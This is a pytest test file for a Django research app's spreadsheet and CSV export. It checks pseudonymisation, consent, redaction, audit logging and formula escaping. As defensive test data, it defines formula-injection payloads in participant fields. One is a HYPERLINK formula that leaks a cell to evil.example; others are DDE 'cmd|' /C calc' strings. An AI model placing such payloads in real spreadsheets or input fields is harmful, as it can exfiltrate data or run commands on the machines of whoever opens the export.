"""Spreadsheet exports: the workbook and CSV read back, as each persona gets them.

Ada (large, EMEA) consented to internal use; Omar (SMB, APAC) to the research team only.
Bob's contextual inquiry has a field note that starts like a formula. Participant fields
hold formula-like text as people typed it (a company of "=HYPERLINK(…)").
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import zipfile
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from django.contrib.auth.models import User
from django.core.management import CommandError, call_command
from django.db import connection
from django.test import Client
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE
from openpyxl.workbook.workbook import Workbook
from pytest_django import DjangoCaptureOnCommitCallbacks, Settings

from insights.coding import HighlightFields, code_get_or_create, highlight_create
from insights.exports import rows as rows_module
from insights.exports import service
from insights.exports.rows import ExportOptions
from insights.exports.writer import CONTROL_CHARACTER, Column, Sheet, clean_text, write_xlsx
from insights.models import Code, Highlight, JourneyFramework, Recommendation, Stage, Theme
from insights.quotes import quote_rows, quotes_for_project
from insights.visibility import evidence_reader
from interviews.models import (
    AuditEvent,
    ConsentRecord,
    FieldNote,
    Participant,
    ResearchProject,
    Transcript,
)
from interviews.redaction import SpanToRedact, redactions_apply
from jobs.models import BackgroundJob
from tests.factories import (
    make_attribute,
    make_consent,
    make_enrollment,
    make_participant,
    make_session,
    make_transcript,
    make_user,
    set_blind_coding,
)

EVIL_COMPANY = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")'
EVIL_PERSONA = "+cmd|' /C calc'!A0"
EVIL_ATTRIBUTE = "@SUM(1+1)*cmd|' /C calc'!A0"
EVIL_NOTE = "=1+2 is what the admin typed into the licence sheet, then -3 for the refund."

OMAR_VTT = """WEBVTT

00:00:01.000 --> 00:00:04.000
Sam Rivera: Tell me about the renewal.

00:00:05.000 --> 00:00:09.000
Omar Haddad: The renewal quote doubled and procurement balked.
"""

QUOTES_HEADER = [
    "Project",
    "Session date",
    "Participant",
    "Kind",
    "Segment",
    "Region",
    "Tier",
    "Stage",
    "Codes",
    "Sentiment",
    "Pain severity",
    "Quote",
    "Speaker",
    "Source",
    "Timestamp",
    "Coder",
    "Memo",
    "Link",
]


@dataclass
class Study:
    project: ResearchProject
    ada: Participant
    omar: Participant
    bob: Participant
    ada_saml: Highlight  # Ada, onboarding, SSO/SAML, a redacted word, a shared memo
    ada_licence: Highlight  # Ada, purchase, licence code, an unshared memo
    omar_renewal: Highlight  # research team only (Omar's consent)
    note: Highlight  # Bob's field note, starting with "="
    sso: Code
    saml: Code
    licence: Code


def stage(slug: str) -> Stage:
    return Stage.objects.get(framework__slug="cx-journey", slug=slug)


def coded(transcript: Transcript, words: str, lead: User, **fields: object) -> Highlight:
    start = transcript.text.index(words)
    return highlight_create(
        project=transcript.session.project,
        coder=lead,
        start=start,
        end=start + len(words),
        fields=HighlightFields(**fields),  # type: ignore[arg-type]
        transcript=transcript,
    )


@pytest.fixture
def study(project: ResearchProject, lead: User) -> Study:
    project.framework = JourneyFramework.objects.get(slug="cx-journey")
    project.save()
    ada = make_participant(
        name="Ada Lovelace",
        email="ada@analytical.example",
        company=EVIL_COMPANY,
        persona=EVIL_PERSONA,
        segment="large",
        region="emea",
    )
    omar = make_participant(name="Omar Haddad", company="Haddad Freight", segment="smb")
    bob = make_participant(name="Bob Builder", segment="mid_market", region="apac")
    attribute = make_attribute(project, "ci_tool", label="CI tool")
    for person in (ada, omar, bob):
        enrollment = make_enrollment(project, person)
        if person == ada:
            enrollment.attribute_values.create(attribute=attribute, text_value=EVIL_ATTRIBUTE)
    make_consent(omar, scope=ConsentRecord.Scope.RESEARCH_TEAM)
    make_consent(bob)

    sso, _ = code_get_or_create(project=project, name="SSO", by=lead)
    saml, _ = code_get_or_create(project=project, name="SAML", by=lead)
    saml.parent = sso
    saml.save()
    licence, _ = code_get_or_create(project=project, name="Licensing", by=lead)

    interview = make_session(project, participants=[ada], title="First interview")
    transcript = make_transcript(interview, by=lead)
    idp = transcript.text.index("IdP")
    redactions_apply(source=transcript, spans=[SpanToRedact(idp, idp + 3, "company")], by=lead)
    ada_saml = coded(
        transcript,
        "SAML took three weeks because our IdP team was busy.",
        lead,
        stage=stage("onboarding"),
        codes=(saml,),
        sentiment=-1,
        pain_severity=2,
        memo="Shared: identity team is the bottleneck",
    )
    ada_saml.memo_shared = True
    ada_saml.save(update_fields=["memo_shared"])
    ada_licence = coded(
        transcript,
        "The licence true-up surprised procurement too.",
        lead,
        stage=stage("purchase"),
        codes=(licence, sso),
        sentiment=-2,
        memo="Private: ask finance",
    )
    renewal = make_session(project, participants=[omar], title="Second interview")
    omar_transcript = make_transcript(renewal, data=OMAR_VTT.encode(), by=lead, filename="o.vtt")
    omar_renewal = coded(
        omar_transcript,
        "The renewal quote doubled",
        lead,
        stage=stage("purchase"),
        codes=(licence,),
    )
    inquiry = make_session(project, participants=[bob], kind="contextual_inquiry")
    field_note = FieldNote.objects.create(session=inquiry, text=EVIL_NOTE, observed_at_ms=65_000)
    note = highlight_create(
        project=project,
        coder=lead,
        start=0,
        end=len(EVIL_NOTE),
        fields=HighlightFields(stage=stage("onboarding"), codes=(licence,), sentiment=1),
        field_note=field_note,
    )
    theme = Theme.objects.create(
        project=project,
        stage=stage("onboarding"),
        name="SSO setup drags",
        status=Theme.Status.CONFIRMED,
        quote_count=2,
        participant_count=1,
        participant_share=0.5,
    )
    theme.codes.add(sso)
    recommendation = Recommendation.objects.create(
        project=project, statement="-Ship an SSO checklist", stage=stage("onboarding")
    )
    recommendation.themes.add(theme)
    return Study(
        project=project,
        ada=ada,
        omar=omar,
        bob=bob,
        ada_saml=ada_saml,
        ada_licence=ada_licence,
        omar_renewal=omar_renewal,
        note=note,
        sso=sso,
        saml=saml,
        licence=licence,
    )


def export_url(study: Study, query: str = "") -> str:
    url = reverse("insights:quote-export", args=[study.project.slug])
    return f"{url}?{query}" if query else url


def download(client: Client, url: str, **form: str) -> bytes:
    response = client.post(url, form)
    assert response.status_code == 200, response.content[:300]
    return streamed(response)


def workbook(data: bytes) -> Workbook:
    return openpyxl.load_workbook(io.BytesIO(data))


def rows(book: Workbook, sheet: str) -> list[tuple]:
    return list(book[sheet].iter_rows(values_only=True))


def as_dicts(book: Workbook, sheet: str) -> list[dict[str, object]]:
    header, *body = rows(book, sheet)
    return [dict(zip(header, row, strict=True)) for row in body]


def every_value(book: Workbook) -> Iterator[str]:
    for sheet in book:
        for row in sheet.iter_rows(values_only=True):
            yield from (str(value) for value in row if value is not None)


def by_quote(book: Workbook, start: str) -> dict[str, object]:
    return next(r for r in as_dicts(book, "Quotes") if str(r["Quote"]).startswith(start))


# --- The workbook -------------------------------------------------------------------------------


def test_a_leads_workbook_has_every_sheet_with_headers_and_a_row_per_quote(
    lead_client: Client, study: Study
) -> None:
    response = lead_client.post(export_url(study))
    assert response.status_code == 200
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    assert f'filename="{study.project.slug}-quotes-' in response["Content-Disposition"]
    book = workbook(streamed(response))

    assert book.sheetnames == [
        "Quotes",
        "Codebook",
        "Themes",
        "Recommendations",
        "Stage x Code",
        "Code x Participant",
        "Participants",
    ]
    header, *quotes = rows(book, "Quotes")
    assert list(header) == [*QUOTES_HEADER, "Viewers see it"]
    assert len(quotes) == 4
    for sheet in book:
        assert sheet.freeze_panes == "A2"
        assert (
            sheet.auto_filter.ref
            == f"A1:{sheet.cell(1, sheet.max_column).column_letter}{sheet.max_row}"
        )
        assert sheet["A1"].font.b
    quotes_sheet = book["Quotes"]
    assert quotes_sheet.column_dimensions["L"].width == 60
    assert quotes_sheet["L2"].alignment.wrap_text

    saml = by_quote(book, "SAML took three weeks")
    assert saml["Project"] == study.project.title
    assert saml["Participant"] == study.ada.pseudonym
    assert (saml["Kind"], saml["Segment"], saml["Region"], saml["Tier"]) == (
        "Customer",
        "Large",
        "EMEA",
        "Premium",
    )
    assert saml["Stage"] == "Onboarding"
    assert saml["Codes"] == "SSO/SAML"
    assert saml["Speaker"] == "Participant"
    assert saml["Coder"] == "lead"
    assert saml["Viewers see it"] == "yes"
    # The research team reads what it redacted, as on its pages.
    assert "IdP" in str(saml["Quote"])
    assert str(saml["Link"]).startswith("http://testserver/studies/")
    assert str(saml["Link"]).endswith(f"#u-{study.ada_saml.utterance_id}")
    renewal = by_quote(book, "The renewal quote doubled")
    assert renewal["Viewers see it"] == "no"
    licence = by_quote(book, "The licence true-up")
    assert licence["Codes"] == "Licensing; SSO"
    assert licence["Memo"] == "Private: ask finance"


def test_cells_hold_real_dates_numbers_and_durations(lead_client: Client, study: Study) -> None:
    book = workbook(download(lead_client, export_url(study)))
    sheet = book["Quotes"]
    row = next(
        r for r in sheet.iter_rows(min_row=2) if str(r[11].value).startswith("SAML took three")
    )
    date, sentiment, pain, timestamp = row[1], row[9], row[10], row[14]
    assert date.is_date and isinstance(date.value, dt.datetime)
    assert date.value.date() == study.ada_saml.transcript.session.scheduled_at.date()
    assert sentiment.data_type == "n" and sentiment.value == -1
    assert pain.data_type == "n" and pain.value == 2
    assert timestamp.is_date and timestamp.value == dt.timedelta(seconds=5)
    note = by_quote(book, "=1+2")
    assert note["Timestamp"] == dt.timedelta(seconds=65)
    assert note["Speaker"] == "Field note"

    theme = as_dicts(book, "Themes")[0]
    assert theme["Theme"] == "SSO setup drags"
    assert theme["Share of participants"] == 0.5
    assert book["Themes"]["I2"].number_format == "0%"
    assert isinstance(theme["Quotes"], int)


def test_summary_sheets_count_the_exported_quotes(lead_client: Client, study: Study) -> None:
    book = workbook(download(lead_client, export_url(study)))

    codebook = {r["Code"]: r for r in as_dicts(book, "Codebook")}
    assert list(codebook) == ["Licensing", "SSO", "SSO/SAML"]
    assert codebook["SSO/SAML"]["Parent"] == "SSO"
    assert codebook["SSO/SAML"]["Level"] == 2
    # Licensing: Ada's true-up, Omar's renewal, Bob's note; three people.
    assert (codebook["Licensing"]["Quotes"], codebook["Licensing"]["Participants"]) == (3, 3)

    matrix = {r["Code"]: r for r in as_dicts(book, "Stage x Code")}
    assert matrix["Licensing"]["Purchase"] == 2
    assert matrix["Licensing"]["Onboarding"] == 1
    assert matrix["Licensing"]["Total"] == 3
    assert matrix["SSO/SAML"]["Onboarding"] == 1
    assert matrix["SSO/SAML"]["No stage"] == 0

    people = {r["Code"]: r for r in as_dicts(book, "Code x Participant")}
    assert people["SSO/SAML"][study.ada.pseudonym] == 1
    assert people["SSO/SAML"][study.omar.pseudonym] == 0
    assert people["Licensing"][study.omar.pseudonym] == 1

    participants = {r["Participant"]: r for r in as_dicts(book, "Participants")}
    assert participants[study.ada.pseudonym]["Quotes"] == 2
    assert participants[study.ada.pseudonym]["CI tool"] == EVIL_ATTRIBUTE
    assert "Name" not in as_dicts(book, "Participants")[0]

    recommendation = as_dicts(book, "Recommendations")[0]
    assert recommendation["Themes"] == "SSO setup drags"


def test_formula_like_text_is_written_as_text(lead_client: Client, study: Study) -> None:
    book = workbook(download(lead_client, export_url(study), names="1"))

    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row]
    risky = [c for c in cells if isinstance(c.value, str) and c.value[:1] in "=+-@"]
    values = {c.value for c in risky}
    assert {
        EVIL_NOTE,
        EVIL_PERSONA,
        EVIL_ATTRIBUTE,
        EVIL_COMPANY,
        "-Ship an SSO checklist",
    } <= values
    for cell in risky:
        assert cell.data_type == "s", (cell.coordinate, cell.value)
        assert cell.quotePrefix, (cell.coordinate, cell.value)


def test_only_text_that_needs_wrapping_is_wrapped() -> None:
    """Styled cells cost time on 100,000 rows: a wrap column wraps long or multi-line text
    only; empty text is an empty cell."""
    sheet = Sheet(
        "Quotes",
        [Column("Quote", 20, "wrap"), Column("Memo", 20, "wrap")],
        [
            ["Short enough.", ""],
            ["A quote far longer than twenty characters.", "two\nlines"],
            ["=2+2 is risky and long enough to wrap", None],
        ],
    )
    out = io.BytesIO()
    write_xlsx([sheet], out)
    cells = list(openpyxl.load_workbook(out)["Quotes"].iter_rows(min_row=2))

    assert [[c.alignment.wrap_text for c in row] for row in cells] == [
        [None, None],
        [True, True],
        [True, None],
    ]
    assert cells[0][1].value is None
    assert cells[2][0].quotePrefix and cells[2][0].data_type == "s"


def test_the_writer_removes_the_characters_openpyxl_refuses() -> None:
    for character in map(chr, range(256)):
        refused = ILLEGAL_CHARACTERS_RE.search(character) is not None
        assert (CONTROL_CHARACTER.search(character) is not None) == refused, repr(character)
        assert clean_text(f"a{character}b") == ("ab" if refused else f"a{character}b")


def test_the_quote_list_filters_apply(lead_client: Client, study: Study) -> None:
    def quotes(query: str) -> set[str]:
        book = workbook(download(lead_client, export_url(study, query)))
        return {str(r["Quote"])[:12] for r in as_dicts(book, "Quotes")}

    assert quotes("stage=onboarding") == {"SAML took th", EVIL_NOTE[:12]}
    assert quotes("segment=mid_market") == {EVIL_NOTE[:12]}
    assert quotes(f"code={study.sso.pk}") == {"SAML took th", "The licence "}
    assert quotes("sentiment=negative&stage=purchase") == {"The licence "}
    # Pages are not filters: the whole list is exported.
    assert len(quotes("page=2&per_page=25")) == 4


def test_a_filter_that_cannot_apply_is_refused_and_not_audited(
    lead_client: Client, study: Study
) -> None:
    response = lead_client.post(export_url(study, "stage=nowhere"))

    assert response.status_code == 400
    assert "Stage" in response.content.decode()
    assert not AuditEvent.objects.filter(action=AuditEvent.Action.EXPORTED).exists()


def test_an_unknown_format_is_refused(lead_client: Client, study: Study) -> None:
    response = lead_client.post(export_url(study), {"format": "ods"})
    assert response.status_code == 400
    assert not AuditEvent.objects.filter(action=AuditEvent.Action.EXPORTED).exists()


def test_export_needs_post_and_membership(
    lead_client: Client, outsider_client: Client, study: Study
) -> None:
    assert lead_client.get(export_url(study)).status_code == 405
    assert outsider_client.post(export_url(study)).status_code == 404


# --- Viewers ------------------------------------------------------------------------------------


def test_a_viewers_workbook_is_pseudonymous_consented_and_redacted(
    viewer_client: Client, study: Study
) -> None:
    # Asking for names is ignored for a viewer.
    book = workbook(download(viewer_client, export_url(study), names="1"))

    assert book.sheetnames == [
        "Quotes",
        "Codebook",
        "Stage x Code",
        "Code x Participant",
        "Participants",
    ]
    assert list(rows(book, "Quotes")[0]) == QUOTES_HEADER
    quotes = {str(r["Quote"])[:12]: r for r in as_dicts(book, "Quotes")}
    assert set(quotes) == {"SAML took th", "The licence ", EVIL_NOTE[:12]}
    text = " ".join(every_value(book))
    assert "renewal quote doubled" not in text  # Omar's consent keeps it with the team
    assert quotes["SAML took th"]["Quote"] == (
        "SAML took three weeks because our [company] team was busy."
    )
    assert "IdP" not in text
    assert quotes["SAML took th"]["Memo"] == "Shared: identity team is the bottleneck"
    assert quotes["The licence "]["Memo"] is None  # not shared
    for word in ("Ada", "Lovelace", "ada@analytical.example", "Haddad", "Bob Builder", "HYPERLINK"):
        assert word not in text
    participants = as_dicts(book, "Participants")
    assert "Name" not in participants[0]
    assert {r["Participant"] for r in participants} >= {study.ada.pseudonym}
    event = AuditEvent.objects.get(action=AuditEvent.Action.EXPORTED)
    assert event.detail == "quotes spreadsheet (.xlsx): 3 rows"
    assert not AuditEvent.objects.filter(action=AuditEvent.Action.PII_EXPORTED).exists()


def test_a_viewers_csv_has_the_same_rows_guarded(viewer_client: Client, study: Study) -> None:
    data = download(viewer_client, export_url(study), format="csv")

    assert data.startswith("\ufeff".encode())
    header, *body = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    assert header == QUOTES_HEADER
    assert len(body) == 3
    quotes = {row[11] for row in body}
    assert f"'{EVIL_NOTE}" in quotes
    assert "SAML took three weeks because our [company] team was busy." in quotes
    note = next(row for row in body if row[11].startswith("'="))
    assert note[1] == study.note.field_note.session.scheduled_at.date().isoformat()
    assert note[14] == "0:01:05"
    assert AuditEvent.objects.get(action=AuditEvent.Action.EXPORTED).detail == (
        "quotes spreadsheet (.csv): 3 rows"
    )


# --- Personal data ------------------------------------------------------------------------------


def test_names_only_when_the_research_team_asks_and_audited(
    lead_client: Client, study: Study
) -> None:
    book = workbook(download(lead_client, export_url(study), names="1"))

    people = {r["Participant"]: r for r in as_dicts(book, "Participants")}
    ada = people[study.ada.pseudonym]
    assert (ada["Name"], ada["E-mail"], ada["Company"]) == (
        "Ada Lovelace",
        "ada@analytical.example",
        EVIL_COMPANY,
    )
    event = AuditEvent.objects.get(action=AuditEvent.Action.PII_EXPORTED)
    assert event.detail == "quotes spreadsheet (.xlsx, names): 4 rows"
    assert event.project == study.project
    # Reading the identities is recorded per person, as on the pages.
    assert AuditEvent.objects.filter(action=AuditEvent.Action.PII_VIEWED).count() == 3


def test_the_research_team_gets_pseudonyms_by_default(
    researcher_client: Client, study: Study
) -> None:
    book = workbook(download(researcher_client, export_url(study)))

    assert "Name" not in as_dicts(book, "Participants")[0]
    assert "Ada Lovelace" not in " ".join(every_value(book))
    assert AuditEvent.objects.filter(action=AuditEvent.Action.EXPORTED).count() == 1


def test_blind_coding_exports_only_the_researchers_own_quotes(
    researcher_client: Client, study: Study
) -> None:
    set_blind_coding(study.project)
    book = workbook(download(researcher_client, export_url(study)))
    assert as_dicts(book, "Quotes") == []


# --- Large exports: a private job ---------------------------------------------------------------


@pytest.fixture
def media(settings: Settings, tmp_path: Path) -> Path:
    settings.MEDIA_ROOT = tmp_path / "media"
    return settings.MEDIA_ROOT


def test_a_large_export_is_a_private_job_with_a_download(
    lead_client: Client,
    researcher_client: Client,
    study: Study,
    media: Path,
    monkeypatch: pytest.MonkeyPatch,
    django_capture_on_commit_callbacks: DjangoCaptureOnCommitCallbacks,
) -> None:
    monkeypatch.setattr(service, "INLINE_MAX_ROWS", 1)

    with django_capture_on_commit_callbacks(execute=True):
        response = lead_client.post(
            export_url(study, "stage=onboarding&page=3"), {"format": "xlsx"}
        )

    job = BackgroundJob.objects.get(kind=BackgroundJob.Kind.EXPORT)
    assert response.status_code == 302
    assert response["Location"] == reverse("jobs:job-detail", args=[job.pk])
    assert job.private
    assert job.params["filters"] == {"stage": "onboarding"}
    assert job.state == BackgroundJob.State.DONE, job.error
    assert job.result["rows"] == 2
    page = lead_client.get(response["Location"]).content.decode()
    assert reverse("jobs:job-download", args=[job.pk]) in page

    download_url = reverse("jobs:job-download", args=[job.pk])
    file = lead_client.get(download_url)
    assert file.status_code == 200
    book = workbook(streamed(file))
    assert len(as_dicts(book, "Quotes")) == 2
    # Another member of the same study, even a researcher, cannot see it.
    assert researcher_client.get(download_url).status_code == 404
    assert researcher_client.get(reverse("jobs:job-status", args=[job.pk])).status_code == 404
    assert AuditEvent.objects.get(action=AuditEvent.Action.EXPORTED).detail == (
        "quotes spreadsheet (.xlsx): 2 rows"
    )


def test_a_large_export_job_reads_as_its_starter_reads_now(
    viewer: User,
    viewer_client: Client,
    study: Study,
    media: Path,
    monkeypatch: pytest.MonkeyPatch,
    django_capture_on_commit_callbacks: DjangoCaptureOnCommitCallbacks,
) -> None:
    monkeypatch.setattr(service, "INLINE_MAX_ROWS", 1)
    with django_capture_on_commit_callbacks(execute=True):
        viewer_client.post(export_url(study), {"format": "csv", "names": "1"})

    job = BackgroundJob.objects.get(kind=BackgroundJob.Kind.EXPORT)
    assert job.params["names"] is False
    data = streamed(viewer_client.get(reverse("jobs:job-download", args=[job.pk])))
    text = data.decode("utf-8-sig")
    assert "renewal quote doubled" not in text
    assert "[company]" in text
    assert len(list(csv.reader(io.StringIO(text)))) == 4


def test_a_job_whose_starter_left_the_study_fails_with_a_reason(
    lead: User, study: Study, media: Path
) -> None:
    from insights import tasks

    stranger = make_user("stranger")
    job = service.export_start(
        project=study.project,
        user=stranger,
        filters={},
        fmt="xlsx",
        options=ExportOptions(),
    )
    tasks.export_spreadsheet.apply(args=(job.pk,))
    job.refresh_from_db()
    assert job.state == BackgroundJob.State.FAILED
    assert job.error == "You are no longer a member of this study."
    assert not job.result_file


# --- Queries ------------------------------------------------------------------------------------


def test_the_export_reads_in_a_fixed_number_of_queries(
    lead_client: Client, study: Study, django_assert_max_num_queries
) -> None:
    # Session, user, study, membership; the filter's choices (stages, codes, pseudonyms,
    # coders) and the ids; codes and stages for the sheets; what the quote rows share, once:
    # sessions with their participants (2), speakers with theirs, coders, quoted stages, and
    # for the research team's "Viewers see it" the viewers' consent (consents, sessions,
    # session participants) and the ids they can't see; then per chunk of quotes
    # (QUERIES_PER_CHUNK): highlights, codings, redactions; then themes with codes and the
    # evidence summary, recommendations with themes, attributes, enrollments with values,
    # the audit row.
    with django_assert_max_num_queries(32):
        download(lead_client, export_url(study))


# Highlights, their codings, redactions.
QUERIES_PER_CHUNK = {"lead": 3, "viewer": 3}


def grow(study: Study, total: int) -> None:
    """Copies of the study's quotes, each one character shorter than the last (a coder
    highlights a span once), with their codes, until the study holds `total` quotes."""
    bases = [study.ada_saml, study.ada_licence, study.omar_renewal, study.note]
    have = Highlight.objects.filter(project=study.project).count()
    for number in range(have, total):
        base = bases[number % len(bases)]
        cut = number // len(bases)
        copy = Highlight.objects.create(
            project=base.project,
            transcript=base.transcript,
            field_note=base.field_note,
            utterance=base.utterance,
            start=base.start,
            end=base.end - cut,
            text=base.text[: len(base.text) - cut],
            stage=base.stage,
            sentiment=base.sentiment,
            memo=base.memo,
            coder=base.coder,
        )
        for item in base.coded_items.all():
            copy.coded_items.create(tag=item.tag, coder=item.coder)


@pytest.mark.parametrize("persona", ["lead", "viewer"])
def test_the_exports_queries_grow_with_chunks_not_with_quotes(
    study: Study, persona: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    reader = evidence_reader(project=study.project, user=User.objects.get(username=persona))

    def queries(total: int) -> tuple[int, int]:
        grow(study, total)
        ids = service.export_highlight_ids(reader, {})
        with CaptureQueriesContext(connection) as captured:
            written = service.export_write(
                reader=reader,
                user=reader.user,  # type: ignore[arg-type]
                ids=ids,
                fmt="xlsx",
                options=ExportOptions(),
                out=io.BytesIO(),
            )
        return written, len(captured)

    monkeypatch.setattr(rows_module, "CHUNK_SIZE", 10)
    ten, sixty = queries(10), queries(60)
    # The viewer sees neither Omar's copies nor (consent) the field note's: fewer rows.
    assert ten[0] <= 10 and sixty[0] > 40
    chunks_added = -(-sixty[0] // 10) - -(-ten[0] // 10)
    assert sixty[1] - ten[1] == chunks_added * QUERIES_PER_CHUNK[persona]

    # In one chunk, as many queries for 60 quotes as for 10.
    monkeypatch.setattr(rows_module, "CHUNK_SIZE", 1000)
    assert queries(60)[1] == ten[1]


def test_the_export_and_the_quote_list_show_each_quote_alike(study: Study) -> None:
    """Same text, source, link, speaker, participants, memo and badge as the quote list."""
    for user in User.objects.filter(username__in=["lead", "viewer"]):
        reader = evidence_reader(project=study.project, user=user)
        listed = quote_rows(reader, list(quotes_for_project(reader)))
        export = rows_module.study_export(reader, user=user, options=ExportOptions())
        exported = list(rows_module.quote_values(export, [row.highlight.pk for row in listed]))
        header = [column.header for column in rows_module.quote_columns(reader)]
        assert len(exported) == len(listed) >= 3
        for row, values in zip(listed, exported, strict=True):
            cells = dict(zip(header, values, strict=True))
            assert cells["Quote"] == row.text
            assert cells["Source"] == row.source
            assert cells["Link"] == row.url
            assert cells["Memo"] == row.memo
            assert cells["Participant"] == ", ".join(p.pseudonym for p in row.participants)
            if row.highlight.transcript_id is not None:
                assert cells["Speaker"] == ("Participant" if row.participants else row.speaker_role)
            if reader.is_research_team:
                assert cells["Viewers see it"] == ("no" if row.hidden_from_viewers else "yes")


# --- The command --------------------------------------------------------------------------------


def test_the_command_writes_what_the_team_or_a_viewer_sees(study: Study, tmp_path: Path) -> None:
    full, viewer, quotes = tmp_path / "all.xlsx", tmp_path / "viewer.xlsx", tmp_path / "q.csv"
    out = io.StringIO()
    call_command("export_xlsx", "--project", study.project.slug, "-o", str(full), stdout=out)
    call_command("export_xlsx", "--project", study.project.slug, "-o", str(viewer), "--viewer")
    call_command(
        "export_xlsx", "--project", study.project.slug, "-o", str(quotes), "--viewer", "--csv"
    )

    assert "Wrote 4 quotes" in out.getvalue()
    assert len(as_dicts(openpyxl.load_workbook(full), "Quotes")) == 4
    seen = openpyxl.load_workbook(viewer)
    assert len(as_dicts(seen, "Quotes")) == 3
    assert "Themes" not in seen.sheetnames
    assert by_quote(seen, "The licence")["Memo"] is None
    assert "renewal" not in quotes.read_text(encoding="utf-8-sig")
    assert AuditEvent.objects.filter(action=AuditEvent.Action.EXPORTED).count() == 3


def test_the_command_refuses_names_without_a_member(study: Study, tmp_path: Path) -> None:
    with pytest.raises(CommandError, match="--with-names needs --user"):
        call_command(
            "export_xlsx",
            "--project",
            study.project.slug,
            "-o",
            str(tmp_path / "x.xlsx"),
            "--with-names",
        )
    with pytest.raises(CommandError, match="No study"):
        call_command("export_xlsx", "--project", "nope", "-o", str(tmp_path / "x.xlsx"))
    assert not (tmp_path / "x.xlsx").exists()


def test_the_command_takes_the_quote_lists_filters(study: Study, tmp_path: Path) -> None:
    path = tmp_path / "onboarding.xlsx"
    call_command(
        "export_xlsx",
        "--project",
        study.project.slug,
        "-o",
        str(path),
        "--filter",
        "stage=onboarding",
        "--filter",
        "segment=large",
    )
    quotes = as_dicts(openpyxl.load_workbook(path), "Quotes")
    assert [str(q["Quote"])[:12] for q in quotes] == ["SAML took th"]

    with pytest.raises(CommandError, match="Unknown filter segmnt"):
        call_command(
            "export_xlsx", "--project", study.project.slug, "-o", str(path), "--filter", "segmnt=x"
        )
    with pytest.raises(CommandError, match="NAME=VALUE"):
        call_command(
            "export_xlsx", "--project", study.project.slug, "-o", str(path), "--filter", "stage"
        )


def streamed(response: Any) -> bytes:
    """A FileResponse's body (the test client's response type does not declare it)."""
    return b"".join(response.streaming_content)


# --- The benchmark's floor ----------------------------------------------------------------------


def test_the_bench_floor_writes_the_exports_quotes_sheet_byte_for_byte(
    study: Study, lead: User
) -> None:
    """bench.xlsx_floor writes the cells the export writes, so the bench's ratio measures
    the export's reading and row building only."""
    from bench import xlsx_floor

    grow(study, 40)  # wrapped, plain, quote-prefixed and empty cells, many rows
    reader = evidence_reader(project=study.project, user=lead)
    ids = service.export_highlight_ids(reader, {})
    exported = io.BytesIO()
    service.export_write(
        reader=reader, user=lead, ids=ids, fmt="xlsx", options=ExportOptions(), out=exported
    )
    export = rows_module.study_export(reader, user=lead, options=ExportOptions())
    prepared = xlsx_floor.prepare(
        rows_module.quote_columns(reader), rows_module.quote_values(export, ids)
    )
    floor = io.BytesIO()
    xlsx_floor.write(prepared, floor)

    def quotes_sheet(data: io.BytesIO) -> bytes:
        with zipfile.ZipFile(data) as archive:
            return archive.read("xl/worksheets/sheet1.xml")

    styles = {style for _plain, styled in prepared.rows for _index, style, *_ in styled}
    assert (True, "top", False, "General") in styles  # a wrapped memo
    assert (True, "top", True, "General") in styles  # a formula-like field note, wrapped
    assert len(prepared.rows) == len(ids) >= 40
    assert quotes_sheet(floor) == quotes_sheet(exported)
